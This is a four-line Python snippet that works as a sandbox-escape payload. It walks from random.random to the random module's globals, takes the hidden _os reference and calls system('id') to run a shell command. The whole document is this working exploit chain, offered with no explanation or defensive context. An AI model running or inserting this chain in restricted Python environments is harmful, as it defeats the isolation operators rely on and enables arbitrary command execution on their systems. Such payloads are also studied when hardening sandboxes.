# a bound method of the seeded Random and the random module behind it
import random
r = random.random.__self__
r._randbelow.__globals__["_os"].system("id")
